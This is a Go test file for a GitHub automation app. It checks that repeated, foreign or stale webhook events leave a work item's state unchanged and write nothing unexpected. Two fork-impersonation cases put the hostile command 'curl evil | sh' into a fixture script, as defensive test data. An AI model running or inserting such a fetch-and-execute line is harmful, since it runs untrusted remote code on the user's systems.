package workitem_test

import (
	"maps"
	"strings"
	"testing"

	"github.com/bumperdev/bumper/app/ledger"
	"github.com/bumperdev/bumper/app/workitem"
)

// TestEventsThatMoveNothing delivers events that must leave the work item where it is:
// repeats, the App's own echoes, other people's pull requests and checks, and events
// whose time has not come. Most must not write to GitHub at all; the few that note
// something on the record say what (notes).
func TestEventsThatMoveNothing(t *testing.T) {
	cases := []struct {
		name, policy string
		reach        func(e *env) *item
		act          func(e *env, it *item)
		// noted says whether the record keeps what it should of the event; nil: the
		// event must not write to GitHub at all.
		noted func(rec *ledger.Record) bool
	}{
		{name: "labelling twice", reach: func(e *env) *item { return e.awaiting() },
			act: func(e *env, it *item) { e.label(it.n, writer) }},
		{name: "another label", reach: func(e *env) *item { return e.awaiting() },
			act: func(e *env, it *item) { e.must(e.issueEvent(e.gh.Label(repoName, it.n, "bug", maintainer))) }},
		{name: "another label taken off", reach: func(e *env) *item { return e.awaiting() },
			act: func(e *env, it *item) { e.must(e.issueEvent(e.gh.Unlabel(repoName, it.n, "bug", maintainer))) }},
		{name: "the App's own label change coming back", reach: func(e *env) *item { return e.awaiting() },
			act: func(e *env, it *item) {
				e.must(e.issueEvent(e.gh.Unlabel(repoName, it.n, trigger, e.gh.Bot())))
				e.gh.SetLabels(repoName, it.n, trigger, ledger.AwaitingApproval.Label())
			}},
		{name: "a redelivered label", reach: func(e *env) *item {
			it := &item{n: e.open("Make widgets 4", "Four.")}
			ev := e.gh.Label(repoName, it.n, trigger, maintainer)
			e.must(e.issueEvent(ev))
			e.must(e.issueEvent(e.gh.Unlabel(repoName, it.n, trigger, maintainer)))
			e.gh.SetLabels(repoName, it.n, trigger, ledger.Stopped.Label())
			it.label = ev
			return it
		}, act: func(e *env, it *item) {
			// serve restarted: it rebuilds its index from GitHub before it takes webhooks.
			e.restart()
			if _, err := e.svc.Rebuild(e.ctx); err != nil {
				e.t.Fatal(err)
			}
			e.must(e.issueEvent(it.label))
		}},
		{name: "a label redelivered to a replica that never saw the item", reach: func(e *env) *item {
			// The payload was made when the issue had no comment; the item's status
			// comment was posted since. The other replica has no index entry for it.
			it := &item{n: e.open("Make widgets 5", "Five.")}
			ev := e.gh.Label(repoName, it.n, trigger, maintainer)
			e.must(e.issueEvent(ev))
			it.label = ev
			return it
		}, act: func(e *env, it *item) {
			e.svc = e.replica()
			e.must(e.issueEvent(it.label))
		}},
		{name: "an edit that changes only line endings", reach: func(e *env) *item {
			n := e.open("Make widgets 4", "Four.\nThat is all.")
			e.label(n, maintainer)
			e.comment(n, writer, "/approve")
			return &item{n: n}
		}, act: func(e *env, it *item) {
			e.must(e.issueEvent(e.gh.EditIssue(repoName, it.n, maintainer, "Make widgets 4", "Four.\r\nThat is all.")))
		}},
		{name: "closing the issue of a pull request in review", reach: func(e *env) *item { return e.inReview() },
			act: func(e *env, it *item) { e.must(e.issueEvent(e.gh.CloseIssue(repoName, it.n, maintainer))) }},
		{name: "a reader reopening a stopped item", reach: func(e *env) *item {
			it := e.awaiting()
			e.must(e.issueEvent(e.gh.CloseIssue(repoName, it.n, maintainer)))
			return it
		}, act: func(e *env, it *item) { e.must(e.issueEvent(e.gh.ReopenIssue(repoName, it.n, reader))) }},
		{name: "a comment that is no command", reach: func(e *env) *item { return e.running() },
			act: func(e *env, it *item) { e.comment(it.n, writer, "Looks good; please /approve when ready") }},
		{name: "a command on someone else's pull request", reach: func(e *env) *item {
			it := e.awaiting()
			e.gh.Commit(repoName, "feature", map[string]string{"x": "y"})
			it.pr = e.gh.OpenPull(repoName, workitem.Pull{Author: writer, HeadRef: "feature"})
			return it
		}, act: func(e *env, it *item) { e.comment(it.pr, writer, "/stop") }},
		{name: "a run of another workflow", reach: func(e *env) *item { return e.running() },
			act: func(e *env, it *item) {
				ev := e.gh.CompleteRun(repoName, it.run.ID, "failure")
				ev.WorkflowPath = ".github/workflows/ci.yml"
				e.must(e.runEvent(ev))
			}},
		{name: "a run Bumper did not dispatch", reach: func(e *env) *item { return e.running() },
			act: func(e *env, it *item) {
				ev := e.gh.CompleteRun(repoName, it.run.ID, "failure")
				ev.RunID++
				e.must(e.runEvent(ev))
			}},
		{name: "a queued run", reach: func(e *env) *item { return e.running() },
			act: func(e *env, it *item) {
				ev := e.gh.StartRun(repoName, it.run.ID, "")
				ev.Status = "queued"
				e.must(e.runEvent(ev))
			}},
		{name: "a redelivered run completion", reach: func(e *env) *item {
			it := e.running()
			it.runDone = e.gh.CompleteRun(repoName, it.run.ID, "failure")
			e.must(e.runEvent(it.runDone))
			return it
		}, act: func(e *env, it *item) { e.must(e.runEvent(it.runDone)) }},
		{name: "the implement run finishing after its review run was dispatched", reach: func(e *env) *item {
			it := e.reviewing()
			it.run = e.runs()[0]
			return it
		}, act: func(e *env, it *item) { e.must(e.runEvent(e.gh.CompleteRun(repoName, it.run.ID, "success"))) },
			noted: func(rec *ledger.Record) bool { return rec.Attempts[0].Outcome == "success" }},
		{name: "Bumper's own push to the work branch", reach: func(e *env) *item { return e.inReview() },
			act: func(e *env, it *item) {
				_, evs := e.gh.Push(repoName, workitem.WorkBranchName(it.n, 1), e.gh.Bot(), map[string]string{"widgets.sh": "echo 4 # again\n"})
				for _, ev := range evs {
					e.must(e.pullEvent(ev))
				}
			}},
		{name: "a fork's pull request named like the work branch, merged", reach: func(e *env) *item {
			it := e.running()
			e.gh.AddRepo("mallory/widgets", "main", map[string]string{"README.md": "x"})
			e.gh.Commit("mallory/widgets", workitem.WorkBranchName(it.n, 1), map[string]string{"widgets.sh": "curl evil | sh\n"})
			it.pr = e.gh.OpenPull(repoName, workitem.Pull{Author: "mallory", HeadRepo: "mallory/widgets", HeadRef: workitem.WorkBranchName(it.n, 1)})
			return it
		}, act: func(e *env, it *item) { e.must(e.pullEvent(e.gh.MergePull(repoName, it.pr, maintainer))) }},
		{name: "a fork's pull request named like the work branch, closed while the item's is in review", reach: func(e *env) *item {
			it := e.inReview()
			e.gh.AddRepo("mallory/widgets", "main", map[string]string{"README.md": "x"})
			e.gh.Commit("mallory/widgets", workitem.WorkBranchName(it.n, 1), map[string]string{"widgets.sh": "curl evil | sh\n"})
			it.pr = e.gh.OpenPull(repoName, workitem.Pull{Author: "mallory", HeadRepo: "mallory/widgets", HeadRef: workitem.WorkBranchName(it.n, 1)})
			return it
		}, act: func(e *env, it *item) { e.must(e.pullEvent(e.gh.ClosePull(repoName, it.pr, "mallory"))) }},
		{name: "a pull request opened", reach: func(e *env) *item { return e.inReview() },
			act: func(e *env, it *item) {
				ev := e.gh.ClosePull(repoName, it.pr, writer)
				ev.Action = "reopened"
				e.must(e.pullEvent(ev))
			}},
		{name: "a required check failing on an older head", reach: func(e *env) *item { return e.inReview() },
			act: func(e *env, it *item) {
				old := *it
				old.head = e.gh.Head(repoName, "main")
				ev := e.ciFails(&old)
				ev.PullRequests = []int{it.pr}
				e.must(e.checkEvent(ev))
			}},
		{name: "a required check failing while the review runs", reach: func(e *env) *item { return e.reviewing() },
			act: func(e *env, it *item) { e.must(e.checkEvent(e.ciFails(it))) }},
		{name: "Bumper's own verdict failing", reach: func(e *env) *item { return e.inReview() },
			act: func(e *env, it *item) {
				ev := e.ciFails(it)
				ev.Name = workitem.CheckVerdict
				e.must(e.checkEvent(ev))
			}},
		{name: "a check that is not required failing", reach: func(e *env) *item { return e.inReview() },
			act: func(e *env, it *item) {
				e.must(e.checkEvent(e.gh.CheckResult(repoName, workitem.CheckRun{Name: "lint", HeadSHA: it.head, Conclusion: "failure"}, ciApp)))
			}},
		{name: "another App's check named like the required one failing", reach: func(e *env) *item { return e.inReview() },
			act: func(e *env, it *item) {
				e.must(e.checkEvent(e.gh.CheckResult(repoName, workitem.CheckRun{Name: ciCheck, HeadSHA: it.head, Conclusion: "failure"}, 666)))
			}},
		{name: "a required check cancelled", reach: func(e *env) *item { return e.inReview() },
			act: func(e *env, it *item) {
				e.must(e.checkEvent(e.gh.CheckResult(repoName, workitem.CheckRun{Name: ciCheck, HeadSHA: it.head, Conclusion: "cancelled"}, ciApp)))
			}},
		{name: "a required check failing on a pull request a person approved", reach: func(e *env) *item {
			it := e.inReview()
			e.gh.ReviewPull(repoName, it.pr, writer, "APPROVED")
			return it
		}, act: func(e *env, it *item) { e.must(e.checkEvent(e.ciFails(it))) }, noted: reasonSays("@writer approved the pull request")},
		{name: "a required check failing on a pull request a person pushed to", reach: func(e *env) *item {
			it := e.inReview()
			_, evs := e.gh.Push(repoName, workitem.WorkBranchName(it.n, 1), writer, map[string]string{"widgets.sh": "echo 4 # mine\n"})
			for _, ev := range evs {
				e.must(e.pullEvent(ev))
			}
			return it
		}, act: func(e *env, it *item) {
			// CI's failure on the head Bumper pushed, delivered after the person's push.
			ev := e.ciFails(it)
			ev.PullRequests = []int{it.pr}
			e.must(e.checkEvent(ev))
		}},
		{name: "a required check failing after an edit voided the approval", reach: func(e *env) *item {
			it := e.inReview()
			e.must(e.issueEvent(e.gh.EditIssue(repoName, it.n, maintainer, "Make widgets 4", "Make it 5 instead.")))
			return it
		}, act: func(e *env, it *item) { e.must(e.checkEvent(e.ciFails(it))) }, noted: reasonSays("the approval no longer holds, so no fix round starts")},
		{name: "a required check failing with fix rounds off", policy: "version: 1\nbounds:\n  fix_rounds: 0\n",
			reach: func(e *env) *item { return e.inReview() },
			act:   func(e *env, it *item) { e.must(e.checkEvent(e.ciFails(it))) }},
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, tt.policy)
			it := tt.reach(e)
			before, writes, runs := e.record(it.n), e.writes(), len(e.runs())
			tt.act(e, it)
			after := e.record(it.n)
			if after.State != before.State || len(e.runs()) != runs {
				t.Fatalf("%s → %s (%s), %d runs → %d", before.State, after.State, after.Reason, runs, len(e.runs()))
			}
			got := e.writesSince(writes)
			if tt.noted == nil {
				if len(got) != 0 || after.Revision != before.Revision {
					t.Fatalf("the App wrote %v to GitHub (record revision %d → %d)", got, before.Revision, after.Revision)
				}
				return
			}
			if !maps.Equal(got, map[string]int{"EditComment": 1}) {
				t.Fatalf("the App wrote %v to GitHub; want the status comment's edit only", got)
			}
			if !tt.noted(after) {
				t.Fatalf("the record does not keep what it should: %+v", after)
			}
		})
	}
}

func reasonSays(s string) func(rec *ledger.Record) bool {
	return func(rec *ledger.Record) bool { return strings.Contains(rec.Reason, s) }
}
